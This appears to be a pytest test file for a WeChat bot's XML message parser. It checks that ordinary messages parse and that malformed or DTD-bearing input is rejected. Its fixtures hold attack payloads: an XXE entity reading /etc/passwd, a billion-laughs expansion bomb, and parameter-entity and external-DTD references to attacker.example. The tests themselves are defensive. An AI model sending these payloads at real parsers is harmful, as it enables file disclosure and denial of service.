import pytest

from bot.wechat_xml import MalformedXml, UnsafeXml, parse_wechat_message, screen_xml

TEXT = ("<xml><ToUserName><![CDATA[gh_1]]></ToUserName><FromUserName><![CDATA[oUser]]></FromUserName>"
        "<CreateTime>1700000000</CreateTime><MsgType><![CDATA[text]]></MsgType>"
        "<Content><![CDATA[摆摊要交费吗]]></Content><MsgId>123</MsgId></xml>")

XXE = ('<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
       "<xml><FromUserName>o</FromUserName><MsgType>text</MsgType><Content>&xxe;</Content></xml>")
BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
                            for i in range(1, 10))
                  + "]><xml><MsgType>text</MsgType><Content>&lol9;</Content></xml>")
PARAMETER_ENTITY = ('<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'
                    "<xml><MsgType>text</MsgType></xml>")
PLAIN_DTD = '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><MsgType>text</MsgType></xml>'


def test_text_message_is_parsed_by_wechatpy():
    fields, message = parse_wechat_message(TEXT.encode())
    assert message.type == "text" and message.content == "摆摊要交费吗" and message.source == "oUser"
    assert fields["MsgId"] == "123"


@pytest.mark.parametrize("body", [XXE, BILLION_LAUGHS, PARAMETER_ENTITY, PLAIN_DTD],
                         ids=["xxe", "billion-laughs", "parameter-entity", "external-dtd"])
def test_any_dtd_is_refused_unread(body):
    with pytest.raises(UnsafeXml):
        screen_xml(body.encode())


@pytest.mark.parametrize("body", [b"", b"not xml", b"<xml><a></xml>", b"<root><MsgType>text</MsgType></root>",
                                  b"\xff\xfe<xml/>", "<xml><Content>&undefined;</Content></xml>".encode()])
def test_malformed_bodies_are_refused(body):
    with pytest.raises(MalformedXml):
        screen_xml(body)


def test_message_without_type_or_sender_is_malformed():
    with pytest.raises(MalformedXml):
        parse_wechat_message(b"<xml><Content>hi</Content></xml>")


def test_unknown_message_type_still_parses():
    _, message = parse_wechat_message(TEXT.replace("[text]", "[hologram]"))
    assert message.type == "unknown"
